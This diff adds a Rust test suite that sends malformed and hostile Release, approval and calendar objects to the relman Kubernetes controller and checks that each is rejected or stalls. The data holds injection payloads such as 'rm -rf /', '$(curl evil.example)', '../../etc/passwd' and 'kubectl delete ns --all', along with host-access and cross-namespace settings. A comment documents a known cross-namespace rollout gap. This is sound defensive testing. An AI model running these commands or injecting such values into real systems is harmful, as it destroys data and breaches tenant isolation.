@@ -1,0 +1,704 @@
+//! The bad-input sweep: malformed and hostile Releases, approvals and calendars, while relman
+//! (the real binary, watching every namespace) serves good releases.
+//!
+//! Every case must be rejected at admission (sent as `kubectl apply` sends it: server-side
+//! apply with strict field validation), or be accepted and then reported `Stalled=True` with a
+//! message, before anything changed. Cases that try to reach out of their namespace must
+//! change nothing outside it. Meanwhile a good release that started before the sweep, and
+//! one created after it, must both succeed, and the relman process must never exit.
+
+#![allow(clippy::expect_used, clippy::unwrap_used)]
+
+use std::fmt::Write as _;
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use k8s_openapi::api::apps::v1::Deployment;
+use k8s_openapi::api::batch::v1::Job;
+use kube::api::{Api, DynamicObject, ListParams, Patch, PatchParams, PostParams};
+use kube::core::{ApiResource, GroupVersionKind};
+use relman::api::{Release, ReleaseApproval};
+use relman::plan::jobs::LABEL_RELEASE;
+use relman_testenv::{ADMIN_USER, ControlPlane};
+use serde_json::{Value, json};
+
+/// How long an accepted hostile release may take to report `Stalled`.
+const STALL_WAIT: Duration = Duration::from_secs(120);
+
+fn resource(kind: &str) -> ApiResource {
+    ApiResource::from_gvk(&GroupVersionKind::gvk("relman.io", "v1alpha1", kind))
+}
+
+/// A smoke test that passes.
+fn smoke() -> Value {
+    json!({"timeout": "5m", "template": {"spec": {"backoffLimit": 0, "template": {"spec": {
+        "restartPolicy": "Never", "containers": [{"name": "smoke", "image": "smoke:1"}]
+    }}}}})
+}
+
+/// A valid Release of `app` (Deployments `<app>-staging` and `<app>-prod`) that each case
+/// changes in one place.
+fn release_spec(app: &str) -> Value {
+    json!({
+        "application": app,
+        "version": "2.0.0",
+        "type": "Major",
+        "owner": "team-hostile",
+        "rollbackPlan": "revert to 1.0.0",
+        "notes": {"summary": "Version 2.", "migrationSteps": ["none"]},
+        "images": [{"container": "api", "image": format!("{app}:2.0.0")}],
+        "stages": [
+            {"name": "staging", "deployments": [format!("{app}-staging")], "smokeTest": smoke()},
+            {"name": "production", "deployments": [format!("{app}-prod")], "smokeTest": smoke()}
+        ]
+    })
+}
+
+fn approval_spec() -> Value {
+    json!({"release": "first-2-0-0", "version": "2.0.0", "gate": "production",
+        "decision": "Approved", "approver": ADMIN_USER})
+}
+
+fn calendar_spec() -> Value {
+    json!({
+        "timeZone": "Europe/Berlin",
+        "windows": [{"name": "business-hours",
+            "weekly": {"days": ["Mon", "Tue"], "start": "09:00", "end": "16:00"}}],
+        "freezes": [{"name": "year-end", "start": "2026-12-20", "end": "2027-01-04"}]
+    })
+}
+
+/// `doc` with `value` at the JSON pointer (its parent must exist); `null` removes the key.
+fn with(mut doc: Value, pointer: &str, value: Value) -> Value {
+    let (parent, key) = pointer.rsplit_once('/').expect("pointer has a parent");
+    match doc.pointer_mut(parent).expect("the parent exists") {
+        Value::Object(map) if value.is_null() => {
+            map.remove(key);
+        }
+        Value::Object(map) => {
+            map.insert(key.to_owned(), value);
+        }
+        Value::Array(items) => items[key.parse::<usize>().expect("index")] = value,
+        other => panic!("cannot set {key} in {other}"),
+    }
+    doc
+}
+
+/// What a case must end as.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Expect {
+    /// The API server refuses it.
+    Rejected,
+    /// Accepted; relman reports `Stalled=True` with a message and changes nothing.
+    Stalled,
+}
+
+/// One malformed or hostile object.
+struct Case {
+    what: String,
+    kind: &'static str,
+    /// `metadata.name`; `None` for `hostile-<index>`.
+    name: Option<String>,
+    /// The whole object body after `apiVersion`/`kind`/`metadata` (usually `{"spec": ...}`).
+    body: Value,
+    expect: Expect,
+}
+
+fn case(what: impl Into<String>, kind: &'static str, body: Value, expect: Expect) -> Case {
+    Case {
+        what: what.into(),
+        kind,
+        name: None,
+        body,
+        expect,
+    }
+}
+
+fn release(what: impl Into<String>, spec: Value) -> Case {
+    case(what, "Release", json!({ "spec": spec }), Expect::Rejected)
+}
+
+fn approval(what: impl Into<String>, spec: Value) -> Case {
+    case(
+        what,
+        "ReleaseApproval",
+        json!({ "spec": spec }),
+        Expect::Rejected,
+    )
+}
+
+fn calendar(what: impl Into<String>, spec: Value) -> Case {
+    case(
+        what,
+        "ReleaseCalendar",
+        json!({ "spec": spec }),
+        Expect::Rejected,
+    )
+}
+
+/// A named edit of a valid Release spec.
+type Edit = (String, Box<dyn Fn(Value) -> Value>);
+
+/// Accepted by the schema; must stall. Each gets its own application `h<index>` so a case that
+/// wrongly goes ahead cannot disturb another.
+fn stalls(what: impl Into<String>, edit: impl Fn(Value) -> Value + 'static) -> Edit {
+    (what.into(), Box::new(edit))
+}
+
+/// The cases the schema and CEL must reject.
+#[rustfmt::skip]
+fn rejected_cases(victim_ns: &str) -> Vec<Case> {
+    let r = || release_spec("hostile");
+    let huge = |n: usize| "x".repeat(n);
+    let mut cases = vec![
+        // Huge strings.
+        release("application of 10 000 characters", with(r(), "/application", json!(huge(10_000)))),
+        release("owner of 300 000 characters", with(r(), "/owner", json!(huge(300_000)))),
+        release("notes summary of 200 000 characters", with(r(), "/notes/summary", json!(huge(200_000)))),
+        release("rollback plan of 100 000 characters", with(r(), "/rollbackPlan", json!(huge(100_000)))),
+        release("image of 5 000 characters", with(r(), "/images/0/image", json!(format!("web:{}", huge(5_000))))),
+        release("deployment name of 300 characters", with(r(), "/stages/0/deployments/0", json!(huge(300)))),
+        release("1 000 images", with(r(), "/images", json!((0..1000).map(|i| json!({"container": format!("c{i}"), "image": "x:1"})).collect::<Vec<_>>()))),
+        release("500 stages", with(r(), "/stages", json!((0..500).map(|i| json!({"name": format!("s{i}"), "deployments": ["web"], "smokeTest": smoke()})).collect::<Vec<_>>()))),
+        release("10 000 notable changes", with(r(), "/notes/notableChanges", json!(vec!["change"; 10_000]))),
+        // Unicode.
+        release("version in full-width digits", with(r(), "/version", json!("２.０.０"))),
+        release("version with a right-to-left override", with(r(), "/version", json!("2.0.0\u{202e}1"))),
+        release("application with a homoglyph (Cyrillic a)", with(r(), "/application", json!("\u{0430}pp"))),
+        release("stage name with an umlaut", with(r(), "/stages/0/name", json!("stäging"))),
+        release("deployment name with an emoji", with(r(), "/stages/0/deployments/0", json!("web-🚀"))),
+        release("container name with a zero-width space", with(r(), "/images/0/container", json!("api\u{200b}"))),
+        // Wrong types.
+        release("version as a number", with(r(), "/version", json!(2))),
+        release("stages as an object", with(r(), "/stages", json!({"staging": {"deployments": ["web"]}}))),
+        release("images as a string", with(r(), "/images", json!("web:2.0.0"))),
+        release("abort as a string", with(r(), "/abort", json!("yes please"))),
+        release("approvers as a string", with(r(), "/stages/1/approval", json!({"approvers": "one"}))),
+        release("negative approvers", with(r(), "/stages/1/approval", json!({"approvers": -1}))),
+        release("smoke-test template as a string", with(r(), "/stages/0/smokeTest/template", json!("kubectl run"))),
+        release("spec is null", Value::Null),
+        release("type is not Patch/Minor/Major", with(r(), "/type", json!("Hotfix"))),
+        // Injection-looking names.
+        release("application with a shell command", with(r(), "/application", json!("web; rm -rf /"))),
+        release("version with a command substitution", with(r(), "/version", json!("2.0.0$(curl evil.example)"))),
+        release("deployment name with a path traversal", with(r(), "/stages/0/deployments/0", json!("../../etc/passwd"))),
+        release("deployment name with SQL", with(r(), "/stages/0/deployments/0", json!("web'; DROP TABLE releases;--"))),
+        release("stage name with HTML", with(r(), "/stages/0/name", json!("<script>alert(1)</script>"))),
+        release("image with a newline", with(r(), "/images/0/image", json!("web:2.0.0\nimage: evil:1"))),
+        release("calendar name with a slash", with(r(), "/calendar", json!("../other-tenant"))),
+        release("rollout timeout of a billion hours", with(r(), "/stages/0/rolloutTimeout", json!("1e9h"))),
+        release("negative smoke-test timeout", with(r(), "/stages/0/smokeTest/timeout", json!("-5m"))),
+        release("smoke-test template without containers", with(r(), "/stages/0/smokeTest/template", json!({"spec": {"template": {"spec": {"restartPolicy": "Never"}}}}))),
+        // Reaching into other namespaces.
+        release("stage namespace with a path traversal", with(r(), "/stages/0/namespace", json!("../kube-system"))),
+        release("stage namespace in capitals", with(r(), "/stages/0/namespace", json!("KUBE-SYSTEM"))),
+        release("condition gate with a namespace field", with(r(), "/requirements", json!([{"name": "ci", "condition": {"apiVersion": "v1", "kind": "ConfigMap", "name": "ci", "namespace": victim_ns, "type": "Ready"}}]))),
+        release("notify secret from another namespace", with(r(), "/notify", json!([{"name": "slack", "secretRef": {"name": "hook", "key": "url", "namespace": victim_ns}, "events": ["Succeeded"]}]))),
+        release("unknown field asking for the host network", with(r(), "/hostNetwork", json!(true))),
+        // Approvals.
+        approval("approval of version latest", with(approval_spec(), "/version", json!("latest"))),
+        approval("approval decision Maybe", with(approval_spec(), "/decision", json!("Maybe"))),
+        approval("approval comment of 100 000 characters", with(approval_spec(), "/comment", json!(huge(100_000)))),
+        approval("approval approver of 1 000 characters", with(approval_spec(), "/approver", json!(huge(1_000)))),
+        approval("approval of a release named with a shell command", with(approval_spec(), "/release", json!("first; kubectl delete ns --all"))),
+        approval("approval gate with unicode", with(approval_spec(), "/gate", json!("prodüction"))),
+        approval("approval version as a number", with(approval_spec(), "/version", json!(2))),
+        approval("approval of a release in another namespace", with(approval_spec(), "/namespace", json!(victim_ns))),
+        approval("approval without a decision", with(approval_spec(), "/decision", Value::Null)),
+        // Calendars.
+        calendar("calendar time zone with a path traversal", with(calendar_spec(), "/timeZone", json!("../../etc/localtime"))),
+        calendar("calendar weekday Caturday", with(calendar_spec(), "/windows/0/weekly/days", json!(["Caturday"]))),
+        calendar("calendar window at 25:00", with(calendar_spec(), "/windows/0/weekly/start", json!("25:00"))),
+        calendar("calendar rrule with an injected line", with(calendar_spec(), "/windows/0", json!({"name": "w", "rrule": "FREQ=DAILY\r\nEND:VCALENDAR", "duration": "1h"}))),
+        calendar("calendar freeze of 10 000 characters", with(calendar_spec(), "/freezes/0/name", json!(huge(10_000)))),
+        calendar("calendar with 10 000 windows", with(calendar_spec(), "/windows", json!((0..10_000).map(|i| json!({"name": format!("w{i}"), "weekly": {"days": ["Mon"], "start": "09:00", "end": "10:00"}})).collect::<Vec<_>>()))),
+        calendar("calendar windows as a string", with(calendar_spec(), "/windows", json!("always"))),
+    ];
+    // Object names: too long, unicode, injection-looking.
+    for (what, name) in [
+        ("release named with 300 characters", "r".repeat(300)),
+        ("release named in unicode", "wéb-2-0-0".to_owned()),
+        ("release named with a shell command", "web;reboot".to_owned()),
+        ("release named with a path traversal", "..".to_owned()),
+    ] {
+        let mut c = release(what, r());
+        c.name = Some(name);
+        cases.push(c);
+    }
+    cases
+}
+
+/// The cases the schema accepts but relman must stall on before anything changes; each
+/// edits the Release of its own application. `victim_ns` holds another team's Deployment.
+fn stalled_cases(victim_ns: &str) -> Vec<Edit> {
+    let victim = victim_ns.to_owned();
+    let pod = |spec: Value| json!({"spec": {"backoffLimit": 0, "template": {"spec": spec}}});
+    vec![
+        stalls("a Deployment that does not exist", |s| {
+            with(s, "/stages/0/deployments", json!(["ghost"]))
+        }),
+        stalls("a stage namespace that does not exist", |s| {
+            with(s, "/stages/0/namespace", json!("no-such-namespace"))
+        }),
+        stalls(
+            "a stage in kube-system naming a Deployment that is not there",
+            |s| with(s, "/stages/0/namespace", json!("kube-system")),
+        ),
+        stalls("a Job template whose restartPolicy is Always", move |s| {
+            with(
+                s,
+                "/stages/0/smokeTest/template",
+                pod(json!({"restartPolicy": "Always",
+                "containers": [{"name": "smoke", "image": "smoke:1"}]})),
+            )
+        }),
+        stalls("a Job template whose container name is invalid", move |s| {
+            with(
+                s,
+                "/stages/0/smokeTest/template",
+                pod(json!({"restartPolicy": "Never",
+                "containers": [{"name": "Smoke_Test; rm -rf /", "image": "smoke:1"}]})),
+            )
+        }),
+        stalls("a Job template with an empty image", move |s| {
+            with(
+                s,
+                "/stages/0/smokeTest/template",
+                pod(json!({"restartPolicy": "Never",
+                "containers": [{"name": "smoke", "image": ""}]})),
+            )
+        }),
+        stalls(
+            "a Job template with a hostPath volume of a relative path",
+            move |s| {
+                with(
+                    s,
+                    "/stages/0/smokeTest/template",
+                    pod(json!({"restartPolicy": "Never",
+                "volumes": [{"name": "root", "hostPath": {"path": "../../"}}],
+                "containers": [{"name": "smoke", "image": "smoke:1",
+                    "volumeMounts": [{"name": "root", "mountPath": "/host"}]}]})),
+                )
+            },
+        ),
+        stalls(
+            "a backup Job template with a negative backoffLimit",
+            move |s| {
+                with(
+                    s,
+                    "/stages/0/backup",
+                    json!({"template": {"spec": {"backoffLimit": -1,
+                "template": {"spec": {"restartPolicy": "Never",
+                    "containers": [{"name": "backup", "image": "backup:1"}]}}}}}),
+                )
+            },
+        ),
+        stalls(
+            "a smoke Job template whose pod uses another namespace's service account",
+            move |s| {
+                with(
+                    s,
+                    "/stages/0/smokeTest/template",
+                    pod(json!({"restartPolicy": "Never",
+                "serviceAccountName": "kube-system:default",
+                "containers": [{"name": "smoke", "image": "smoke:1"}]})),
+                )
+            },
+        ),
+        stalls(
+            "an image for a container the Deployment does not have",
+            |s| with(s, "/images/0/container", json!("sidecar")),
+        ),
+        stalls(
+            "a Job template asking for the node's PID namespace with an invalid name",
+            move |s| {
+                with(
+                    s,
+                    "/stages/0/smokeTest/template",
+                    pod(json!({"restartPolicy": "Never",
+                "hostPID": true, "nodeName": "../kwok-node-0",
+                "containers": [{"name": "smoke", "image": "smoke:1"}]})),
+                )
+            },
+        ),
+        stalls(
+            format!("a stage in namespace {victim} naming a Deployment missing there"),
+            move |s| {
+                let s = with(s, "/stages/0/namespace", json!(victim.clone()));
+                with(s, "/stages/0/deployments", json!(["not-the-victim"]))
+            },
+        ),
+    ]
+}
+
+/// A `relman` process watching every namespace, killed when dropped.
+struct Relman(Child);
+
+impl Relman {
+    fn spawn(cp: &ControlPlane, log: &Path) -> Self {
+        let log = std::fs::File::create(log).expect("create the controller log");
+        let child = Command::new(env!("CARGO_BIN_EXE_relman"))
+            .env("KUBECONFIG", cp.kubeconfig_path())
+            .env("RELMAN_LEADER_ELECTION", "false")
+            .env("RELMAN_HTTP_ADDR", "127.0.0.1:0")
+            .env("POD_NAME", "relman-hostile")
+            .stdin(Stdio::null())
+            .stdout(log.try_clone().expect("clone the log handle"))
+            .stderr(log)
+            .spawn()
+            .expect("start the relman binary");
+        Self(child)
+    }
+
+    fn ensure_running(&mut self) -> anyhow::Result<()> {
+        match self.0.try_wait()? {
+            None => Ok(()),
+            Some(status) => anyhow::bail!("relman exited during the sweep: {status}"),
+        }
+    }
+}
+
+impl Drop for Relman {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Creates `app-staging` and `app-prod` running `app:1.0.0` in `ns`.
+async fn deployments(client: &kube::Client, ns: &str, apps: &[String]) -> anyhow::Result<()> {
+    let api: Api<Deployment> = Api::namespaced(client.clone(), ns);
+    for app in apps {
+        for suffix in ["staging", "prod"] {
+            let name = format!("{app}-{suffix}");
+            let d: Deployment = serde_json::from_value(json!({
+                "metadata": {"name": name},
+                "spec": {"replicas": 1, "selector": {"matchLabels": {"app": name}},
+                    "template": {"metadata": {"labels": {"app": name}},
+                        "spec": {"containers": [{"name": "api", "image": format!("{app}:1.0.0")}]}}}
+            }))?;
+            api.create(&PostParams::default(), &d).await?;
+        }
+    }
+    Ok(())
+}
+
+/// Sends `case` the way `kubectl apply --server-side` does; `Err` is the API server's answer.
+async fn submit(client: &kube::Client, ns: &str, index: usize, case: &Case) -> Result<(), String> {
+    let api = dynamic_api(client, ns, case.kind);
+    let name = case
+        .name
+        .clone()
+        .unwrap_or_else(|| format!("{ns}-hostile-{index}"));
+    let mut body = json!({
+        "apiVersion": "relman.io/v1alpha1",
+        "kind": case.kind,
+        "metadata": {"name": name},
+    });
+    if let (Some(body), Some(extra)) = (body.as_object_mut(), case.body.as_object()) {
+        body.extend(extra.clone());
+    }
+    let params = PatchParams::apply("hostile-sweep").validation_strict();
+    api.patch(&name, &params, &Patch::Apply(&body))
+        .await
+        .map(|_| ())
+        .map_err(|e| e.to_string())
+}
+
+/// Waits until `name` (a Release or a ReleaseCalendar) reports `Stalled=True`; returns its
+/// reason and message, or what it shows instead.
+async fn wait_stalled(api: &Api<DynamicObject>, name: &str) -> Result<(String, String), String> {
+    let deadline = Instant::now() + STALL_WAIT;
+    loop {
+        let object = api.get(name).await.map_err(|e| e.to_string())?;
+        let conditions = object.data["status"]["conditions"]
+            .as_array()
+            .cloned()
+            .unwrap_or_default();
+        let text = |c: &Value, key: &str| c[key].as_str().unwrap_or_default().to_owned();
+        if let Some(c) = conditions
+            .iter()
+            .find(|c| text(c, "type") == "Stalled" && text(c, "status") == "True")
+        {
+            return Ok((text(c, "reason"), text(c, "message")));
+        }
+        if Instant::now() >= deadline {
+            return Err(format!("status: {}", object.data["status"]));
+        }
+        tokio::time::sleep(Duration::from_millis(500)).await;
+    }
+}
+
+/// The API of `kind` objects in `ns` (calendars are cluster-scoped).
+fn dynamic_api(client: &kube::Client, ns: &str, kind: &str) -> Api<DynamicObject> {
+    let ar = resource(kind);
+    if kind == "ReleaseCalendar" {
+        Api::all_with(client.clone(), &ar)
+    } else {
+        Api::namespaced_with(client.clone(), ns, &ar)
+    }
+}
+
+/// Waits until `name` is `Ready=True`.
+async fn wait_ready(releases: &Api<Release>, name: &str) -> anyhow::Result<()> {
+    let deadline = Instant::now() + Duration::from_secs(180);
+    loop {
+        let status = releases.get(name).await?.status.unwrap_or_default();
+        if status
+            .conditions
+            .iter()
+            .any(|c| c.type_ == "Ready" && c.status == "True")
+        {
+            return Ok(());
+        }
+        anyhow::ensure!(
+            Instant::now() < deadline,
+            "{name} did not become Ready: {status:#?}"
+        );
+        tokio::time::sleep(Duration::from_millis(500)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_input_is_rejected_or_stalls_and_good_releases_go_on() -> anyhow::Result<()> {
+    let began = Instant::now();
+    let cp = ControlPlane::shared().await?;
+    let client = cp.client().await?;
+    let ns = cp.test_namespace("hostile").await?.name().to_owned();
+    let victim_ns = cp.test_namespace("victim").await?.name().to_owned();
+    let releases: Api<Release> = Api::namespaced(client.clone(), &ns);
+
+    let stalled = stalled_cases(&victim_ns);
+    let mut apps: Vec<String> = vec!["first".into(), "last".into()];
+    apps.extend((0..stalled.len()).map(|i| format!("h{i}")));
+    deployments(&client, &ns, &apps).await?;
+    deployments(&client, &victim_ns, &["victim".to_owned()]).await?;
+
+    let log = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-relman.log");
+    let mut relman = Relman::spawn(cp, &log);
+
+    // A good release with a production sign-off goes on during the sweep.
+    let mut first: Release = serde_json::from_value(json!({
+        "apiVersion": "relman.io/v1alpha1", "kind": "Release",
+        "metadata": {"name": "first-2-0-0"},
+        "spec": release_spec("first")
+    }))?;
+    first.spec.stages[1].approval = serde_json::from_value(json!({"approvers": 1}))?;
+    releases.create(&PostParams::default(), &first).await?;
+
+    let mut report = String::new();
+    let mut failures = Vec::new();
+
+    // Rejected at admission.
+    let rejected = rejected_cases(&victim_ns);
+    for (i, case) in rejected.iter().enumerate() {
+        match submit(&client, &ns, i, case).await {
+            Err(message) => {
+                let short: String = message.chars().take(160).collect();
+                let _ = writeln!(report, "  rejected  {}: {short}", case.what);
+            }
+            Ok(()) => failures.push(format!("{} ({}): accepted", case.what, case.kind)),
+        }
+    }
+
+    // A calendar whose time zone looks right but does not exist stalls the calendar.
+    let mut mars = calendar(
+        "calendar time zone on Mars",
+        with(calendar_spec(), "/timeZone", json!("Mars/Olympus_Mons")),
+    );
+    mars.name = Some(format!("{ns}-mars"));
+    mars.expect = Expect::Stalled;
+
+    // Accepted, must stall. Sent like the others, then awaited together.
+    let mut accepted = Vec::new();
+    match submit(&client, &ns, 0, &mars).await {
+        Ok(()) => accepted.push(mars),
+        Err(message) => {
+            let _ = writeln!(report, "  rejected  {}: {message}", mars.what);
+        }
+    }
+    for (i, (what, edit)) in stalled.iter().enumerate() {
+        let app = format!("h{i}");
+        let c = Case {
+            what: what.clone(),
+            kind: "Release",
+            name: Some(format!("{app}-2-0-0")),
+            body: json!({"spec": edit(release_spec(&app))}),
+            expect: Expect::Stalled,
+        };
+        match submit(&client, &ns, i, &c).await {
+            Ok(()) => accepted.push(c),
+            Err(message) => failures.push(format!(
+                "{what}: expected to pass admission and stall, was rejected: {message}"
+            )),
+        }
+    }
+    for c in &accepted {
+        let name = c.name.clone().unwrap_or_default();
+        match wait_stalled(&dynamic_api(&client, &ns, c.kind), &name).await {
+            Ok((reason, message)) if message.len() >= 10 => {
+                let _ = writeln!(report, "  stalled   {}: {reason}: {message}", c.what);
+            }
+            Ok((reason, message)) => failures.push(format!(
+                "{}: Stalled ({reason}) without a clear message: {message:?}",
+                c.what
+            )),
+            Err(shown) => failures.push(format!("{}: never Stalled: {shown}", c.what)),
+        }
+        relman.ensure_running()?;
+    }
+    assert_eq!(
+        accepted
+            .iter()
+            .filter(|c| c.expect == Expect::Stalled)
+            .count(),
+        accepted.len()
+    );
+
+    // Nothing a hostile release named changed: every Deployment but the good ones' is on its
+    // first revision, the victim's too, and no Job of ours runs outside our namespace.
+    let deployments_api: Api<Deployment> = Api::namespaced(client.clone(), &ns);
+    for d in deployments_api.list(&ListParams::default()).await? {
+        let name = d.metadata.name.clone().unwrap_or_default();
+        if !name.starts_with("first-")
+            && !name.starts_with("last-")
+            && d.metadata.generation != Some(1)
+        {
+            failures.push(format!(
+                "Deployment {name} was changed by a hostile release"
+            ));
+        }
+    }
+    let victim: Api<Deployment> = Api::namespaced(client.clone(), &victim_ns);
+    for d in victim.list(&ListParams::default()).await? {
+        if d.metadata.generation != Some(1) {
+            failures.push(format!(
+                "Deployment {victim_ns}/{} of another namespace was changed",
+                d.metadata.name.unwrap_or_default()
+            ));
+        }
+    }
+    let all_jobs: Api<Job> = Api::all(client.clone());
+    for job in all_jobs
+        .list(&ListParams::default().labels(LABEL_RELEASE))
+        .await?
+    {
+        let job_ns = job.metadata.namespace.clone().unwrap_or_default();
+        let release_ns = job
+            .metadata
+            .labels
+            .as_ref()
+            .and_then(|l| l.get("relman.io/release-namespace"))
+            .cloned()
+            .unwrap_or_default();
+        if release_ns == ns && job_ns != ns {
+            failures.push(format!(
+                "Job {job_ns}/{} of a release in {ns} runs outside it",
+                job.metadata.name.unwrap_or_default()
+            ));
+        }
+    }
+
+    // The good releases: the first is signed off now and finishes; one created after the
+    // sweep finishes too.
+    let approval: ReleaseApproval = serde_json::from_value(json!({
+        "apiVersion": "relman.io/v1alpha1", "kind": "ReleaseApproval",
+        "metadata": {"name": "first-2-0-0-production"},
+        "spec": approval_spec()
+    }))?;
+    Api::<ReleaseApproval>::namespaced(client.clone(), &ns)
+        .create(&PostParams::default(), &approval)
+        .await?;
+    let last: Release = serde_json::from_value(json!({
+        "apiVersion": "relman.io/v1alpha1", "kind": "Release",
+        "metadata": {"name": "last-2-0-0"},
+        "spec": release_spec("last")
+    }))?;
+    releases.create(&PostParams::default(), &last).await?;
+    wait_ready(&releases, "first-2-0-0").await?;
+    wait_ready(&releases, "last-2-0-0").await?;
+    relman.ensure_running()?;
+
+    let total = rejected.len() + 1 + stalled.len();
+    println!(
+        "hostile input sweep: {total} cases ({} rejected at admission, {} stalled), {} failures, \
+         good releases before and after: Ready; {:?}\n{report}",
+        report.matches("  rejected  ").count(),
+        report.matches("  stalled   ").count(),
+        failures.len(),
+        began.elapsed()
+    );
+    assert!(total >= 50, "the sweep has only {total} cases");
+    assert!(
+        failures.is_empty(),
+        "{} hostile cases were not handled:\n{}\n(relman log: {})",
+        failures.len(),
+        failures.join("\n"),
+        log.display()
+    );
+    Ok(())
+}
+
+/// A Release may name a stage namespace; one that names another team's namespace and its
+/// existing Deployment must not get to change it (rejected, or `Stalled` before anything
+/// changed).
+///
+/// KNOWN GAP, found by this sweep: today relman rolls the other namespace's Deployment out
+/// (and the release succeeds), so anyone who may create a Release in one namespace can change
+/// Deployments in every namespace relman may write to. Ignored until the controller restricts
+/// stage namespaces; run it with `cargo test --test hostile -- --ignored`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[ignore = "known gap: a stage may drive another namespace's Deployment (docs/reliability.md)"]
+async fn a_release_cannot_drive_another_namespaces_deployment() -> anyhow::Result<()> {
+    let cp = ControlPlane::shared().await?;
+    let client = cp.client().await?;
+    let ns = cp.test_namespace("intruder").await?.name().to_owned();
+    let victim_ns = cp.test_namespace("victim").await?.name().to_owned();
+    deployments(&client, &ns, &["intruder".to_owned()]).await?;
+    deployments(&client, &victim_ns, &["victim".to_owned()]).await?;
+    let log = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-intruder-relman.log");
+    let mut relman = Relman::spawn(cp, &log);
+
+    let spec = with(
+        release_spec("intruder"),
+        "/stages/0/namespace",
+        json!(victim_ns),
+    );
+    let spec = with(spec, "/stages/0/deployments", json!(["victim-staging"]));
+    let case = Case {
+        what: "a stage naming another namespace's Deployment".into(),
+        kind: "Release",
+        name: Some("intruder-2-0-0".into()),
+        body: json!({ "spec": spec }),
+        expect: Expect::Stalled,
+    };
+    let outcome = match submit(&client, &ns, 0, &case).await {
+        Err(rejected) => format!("rejected: {rejected}"),
+        Ok(()) => {
+            match wait_stalled(&dynamic_api(&client, &ns, "Release"), "intruder-2-0-0").await {
+                Ok((reason, message)) => format!("stalled: {reason}: {message}"),
+                Err(shown) => format!("not stalled: {shown}"),
+            }
+        }
+    };
+    relman.ensure_running()?;
+    let victim = Api::<Deployment>::namespaced(client.clone(), &victim_ns)
+        .get("victim-staging")
+        .await?;
+    let image = victim
+        .spec
+        .template
+        .spec
+        .and_then(|s| s.containers.into_iter().next())
+        .and_then(|c| c.image);
+    println!("{}: {outcome}; victim-staging runs {image:?}", case.what);
+    assert_eq!(
+        victim.metadata.generation,
+        Some(1),
+        "a Release in {ns} changed Deployment {victim_ns}/victim-staging (now {image:?}); \
+         the release: {outcome}"
+    );
+    assert!(!outcome.starts_with("not stalled"), "{outcome}");
+    Ok(())
+}
